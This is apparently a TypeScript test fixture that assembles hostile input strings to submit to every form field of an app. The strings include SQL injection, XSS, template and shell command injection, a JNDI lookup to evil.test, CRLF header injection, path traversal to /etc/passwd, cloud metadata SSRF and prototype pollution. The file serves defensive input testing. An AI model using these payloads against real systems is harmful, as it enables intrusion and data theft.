// What people who mean ill have sent to forms: one list for every field, and every field is sent all of it (VER-6).

const controls = Array.from({ length: 32 }, (_, code) => `a${String.fromCodePoint(code)}b`);
const signs = [
  ...['\u007F', '\u0080', '\u00A0', '\u00AD', '\u034F', '\u061C', '\u115F', '\u1680', '\u180E'],
  ...['\u200B', '\u200C', '\u200D', '\u200E', '\u202A', '\u202E', '\u2028', '\u2029', '\u2060', '\u2066', '\u2069'],
  ...['\u3164', '\uD800', '\uDFFF', '\uFE00', '\uFEFF', '\uFFA0', '\uFFF9', '\uFFFD', '\uFFFE', '\uFFFF', '\u{E0001}'],
].map((sign) => `ana${sign}@latchkey.test`);
const alike = [
  ...['аna@latchkey.test', 'ana＠latchkey.test', 'ana@latchkey。test', 'ana@ｌatchkey.test', 'mıke@latchkey.test'],
  ...['İ@latchkey.test', 'ß@latchkey.test', 'ﬁ@latchkey.test', 'Å@latchkey.test', 'ana@xn--.test', 'ana@xn--a.test'],
  ...['ana@latchkey.test\u0307', 'ÀNA@latchkey.test', 'ana@latchkey.тест', 'ana@[127.0.0.1]', 'ana@127.0.0.1'],
];
const addresses = [
  ...['ana@latchkey.test,eve@evil.test', 'ana@latchkey.test;eve@evil.test', 'ana@latchkey.test eve@evil.test'],
  ...['"ana@latchkey.test"@evil.test', 'ana@latchkey.test@evil.test', '<ana@latchkey.test>', 'Ana <ana@latchkey.test>'],
  ...['ana@latchkey.test>', 'ana@latchkey.test%0aBcc:eve@evil.test', 'ana@latchkey.test\r\nBcc: eve@evil.test'],
  ...['ana@latchkey.test\nSubject: x', 'ana%40latchkey.test', 'ana@latchkey.test?cc=eve@evil.test', '@latchkey.test'],
  ...['ana@', 'ana', '@', 'a@b', 'ana@.test', 'ana@latchkey..test', '.ana@latchkey.test', 'ana.@latchkey.test'],
  ...['ana@-latchkey.test', 'ana@latchkey-.test', 'ana@latchkey.test.', 'ana@@latchkey.test', '(c)ana@latchkey.test'],
  ...['ana\\@latchkey.test', 'ana!evil.test@latchkey.test', 'ana%evil.test@latchkey.test', 'mailto:ana@latchkey.test'],
  ...['postgres@localhost', 'root@localhost', 'ana@localhost', `${'a'.repeat(65)}@latchkey.test`],
  ...[`ana@${'a'.repeat(64)}.test`, `${'a'.repeat(64)}@${'b.'.repeat(100)}test`, `ana@${'x.'.repeat(128)}test`],
];
const digits = [
  ...[
    '٠١٢٣٤٥',
    '१२३४५६',
    '４８２９１７',
    '𝟜𝟠𝟚𝟡𝟙𝟟',
    '①②③④⑤⑥',
    '½23456',
    '482917e0',
    '0x75E35',
    '+482917',
    '-482917',
    '4.82917e5',
  ],
  ...['482917.0', '482,917', '4 8 2 9 1 7 x', 'Infinity', '-Infinity', 'NaN', '1e999', '0'.repeat(21), '9'.repeat(400)],
  ...[
    '١٢٣-٤٥٦',
    '482917\n',
    '\t482917\t',
    '482917\u0000',
    '482917;482918',
    '482917,482918',
    '482917|482918',
    '%34%38%32',
  ],
];
const sql = [
  ...[
    "' OR '1'='1",
    "' OR 1=1 --",
    '\'; DROP TABLE "User"; --',
    '" OR ""="',
    "1' UNION SELECT NULL,NULL--",
    "admin'--",
  ],
  ...[
    "'||(SELECT pg_sleep(5))||'",
    '1; SELECT pg_sleep(5)',
    "') OR ('a'='a",
    "\\'; --",
    '$$; SELECT 1; $$',
    '%',
    '_',
    '\\',
  ],
  ...[
    "ana@latchkey.test' --",
    "1 OR pg_sleep(5)::text='x'",
    "E'\\x27'",
    '$' + '{1}',
    '$1',
    ':1',
    '?',
    '/**/OR/**/1=1',
    "x' AND 1=CAST((SELECT version()) AS int)--",
  ],
];
const html = [
  ...[
    '<script>alert(1)</script>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<svg onload=alert(1)>',
  ],
  ...[
    '<iframe srcdoc="<script>1</script>">',
    'javascript:alert(1)',
    'data:text/html,<script>1</script>',
    '</title><b>x',
  ],
  ...[
    '</textarea><b>x',
    '--><b>x',
    ']]><b>x',
    '<!--',
    '<a href="//evil.test">x</a>',
    '&lt;b&gt;',
    '&#60;b&#62;',
    '\\u003cb\\u003e',
  ],
  ...[
    '<style>*{display:none}</style>',
    '<base href="//evil.test">',
    '<meta http-equiv=refresh content=0>',
    '<math><mtext></p>',
  ],
];
const templates = [
  ...[
    '{{7*7}}',
    '$' + '{7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{%7*7%}',
    '[[7*7]]',
    '*{7*7}',
    '@(7*7)',
    '{{constructor.constructor("x")()}}',
  ],
  ...[
    '$' + '{jndi:ldap://evil.test/x}',
    '$(id)',
    '`id`',
    '|id',
    ';id',
    '&& id',
    '%{(#x=1)}',
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '=HYPERLINK("//evil.test")',
  ],
];
const headers = [
  ...[
    'x\r\nSet-Cookie: a=b',
    'x\r\n\r\n<b>',
    'x\nLocation: //evil.test',
    '%0d%0aSet-Cookie:a=b',
    'x\u2028y',
    'x\u0085y',
  ],
];
const paths = [
  ...[
    '../../../../etc/passwd',
    '..\\..\\x',
    '/etc/passwd',
    'file:///etc/passwd',
    '//evil.test',
    '/\\evil.test',
    '\\\\evil.test',
  ],
  ...[
    'https://evil.test',
    'https:evil.test',
    '/%2f/evil.test',
    '/%5cevil.test',
    'http://localhost@evil.test',
    '///evil.test',
    '/..//evil.test',
  ],
  ...[
    '/\tevil.test',
    ' //evil.test',
    '/account?next=//evil.test',
    '/.evil.test',
    'http://169.254.169.254/',
    'http://[::1]/',
    '%00',
    '%2e%2e%2f',
  ],
];
const prototypes = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'then'],
  ...[
    '{"__proto__":{"admin":true}}',
    '{"constructor":{"prototype":{"admin":true}}}',
    '__proto__[admin]=1',
    'constructor.prototype.admin',
  ],
];
const json = [
  ...[
    'null',
    'true',
    'false',
    '0',
    '-1',
    '[]',
    '{}',
    '""',
    '"x"',
    '[null]',
    '{"$ne":null}',
    '{"$gt":""}',
    '{"email":"ana@latchkey.test"}',
  ],
  ...[
    '["ana@latchkey.test","eve@evil.test"]',
    '['.repeat(2_000),
    '{"a":'.repeat(1_000),
    '$undefined',
    '$1',
    '$K1',
    '$F1',
    '$@1',
    '$Q1',
    '$B1',
    '["$1"]',
  ],
  ...['undefined', 'NaN', '1e400', '9007199254740993', '-0', '{"then":"$1:then"}', '{"_response":{}}'],
];
const long = [
  ...['', ' ', '\t', '\n', '\r\n', '\u3000'],
  ...[
    'x'.repeat(321),
    'x'.repeat(5_000),
    'é'.repeat(5_000),
    '🦦'.repeat(2_000),
    'a\u0301'.repeat(3_000),
    'Z̷̧̢'.repeat(500),
  ],
  ...[
    '(a+)+$'.repeat(50),
    `${'a'.repeat(5_000)}!`,
    `${'a.'.repeat(3_000)}@x`,
    `${'@'.repeat(3_000)}`,
    '\u0000'.repeat(100),
    '\uFFFF'.repeat(100),
  ],
];

/** @returns such as 320 texts; none is an address of somebody who has an account here */
export const hostileValues: readonly string[] = [
  ...new Set([
    ...controls,
    ...signs,
    ...alike,
    ...addresses,
    ...digits,
    ...sql,
    ...html,
    // As a careless layer would decode them.
    ...[...html, ...sql].map((value) => encodeURIComponent(value)),
    ...templates,
    ...headers,
    ...paths,
    ...prototypes,
    ...json,
    ...long,
  ]),
];
